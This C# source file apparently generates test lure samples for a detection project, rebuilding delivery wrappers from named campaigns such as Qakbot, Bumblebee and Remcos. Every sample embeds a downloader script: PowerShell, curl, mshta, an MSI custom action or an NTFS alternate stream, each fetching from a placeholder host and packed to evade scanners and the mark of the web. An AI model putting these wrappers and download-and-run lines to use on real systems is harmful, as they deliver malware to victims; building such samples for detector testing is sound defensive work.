using System.Text;
using Lurewatch.Samples.Disks;

namespace Lurewatch.Samples.Documents;

/// <summary>Wrappings that carry a script past the mark of the web and past scanners.</summary>
internal static class ArchiveDocuments
{
    public static IEnumerable<DocumentSample> All() => [ZippedImage(), VirtualDisk(), NtfsDisk(), Cabinet(), Installer(), SevenZip()];

    private static DocumentSample ZippedImage()
    {
        const string url = "http://image.example/gate/lib.dat";
        var image = IsoWriter.Write([new("Vertrag.js", Script($"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', '{url}', false); x.send();")), new("lib.dat", [1, 2, 3], Hidden: true)], "DVD_ROM");
        var zip = ZipWriter.Write([("Vertrag_3007.iso", image)], "U523", ZipProtection.ZipCrypto, deflate: true);
        var mail = new SampleMail()
            .Header("From", "\"Buchhaltung\" <office@partner.example>")
            .Header("To", "info@town.example")
            .Header("Subject", "AW: Vertrag")
            .Header("Message-ID", "<3007@partner.example>")
            .Text("Guten Tag,\r\n\r\nanbei der Vertrag. Passwort: U523\r\n")
            .Attach("Vertrag_3007.zip", "application/zip", zip)
            .ToBytes();
        return new("Vertrag.eml", "2022, Qakbot and IcedID: an encrypted ZIP whose password stands in the mail holds a disc image with a script and a hidden library.", mail, url);
    }

    private static DocumentSample VirtualDisk()
    {
        const string url = "http://disk.example/quote/stage.ps1";
        var volume = FatWriter.Write([new("Quote.vbs", Script($"On Error Resume Next\r\nDim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden iwr {url} -OutFile a.ps1\"")), new("data/imagedata.dat", new byte[600], Hidden: true)], 16);
        return new("Quote.vhd", "September 2022, Bumblebee: a virtual disk with a starter and a hidden folder.", DiskImages.DynamicVhd(DiskImages.Partitioned(volume)), url);
    }

    private static DocumentSample NtfsDisk()
    {
        const string url = "http://stream.example/a.exe";
        var volume = NtfsWriter.Write([new("Order/readme.txt", Script("See the order.")), new("Order/readme.txt:run.bat", Script($"@echo off\r\ncurl {url} -o %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe"))]);
        return new("Order.img", "2021 to 2023: images with NTFS, whose alternate streams hold what no listing shows.", DiskImages.Partitioned(volume, 7), url);
    }

    private static DocumentSample Cabinet()
    {
        const string url = "http://cabinet.example/p/Xqz";
        return new("PO-4471.cab", "2022 and 2023, DBatLoader and Remcos: a cabinet holds a batch file.", CabWriter.Write([("PO-4471.bat", Script($"@echo off\r\npowershell -c \"(New-Object Net.WebClient).DownloadFile('{url}','%TEMP%\\x.exe')\""))], "lzx"), url);
    }

    private static DocumentSample Installer()
    {
        const string url = "http://installer.example/updates/x.js";
        var package = MsiWriter.Write([("ProductName", "PDF Reader"), ("Address", url)],
            [("Fetch", 34, "TARGETDIR", "cmd.exe /c curl [Address] -o %TEMP%\\x.js && wscript %TEMP%\\x.js")], [("Binary.banner", new byte[200])]);
        return new("Reader.msi", "2022 and 2023, Bumblebee and Batloader: an installer whose custom action starts a command; the address is a property.", package, url);
    }

    private static DocumentSample SevenZip()
    {
        const string url = "http://sevenzip.example/w";
        var archive = SevenZipWriter.Write([("infected.wsf", Script($"<job><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"mshta {url}\"</script></job>"))], "infected", encryptNames: true);
        return new("report.7z", "2020 to 2023: the directory is encrypted too, the password is a usual one.", archive, url);
    }

    private static byte[] Script(string text) => Encoding.ASCII.GetBytes(text + "\r\n");
}
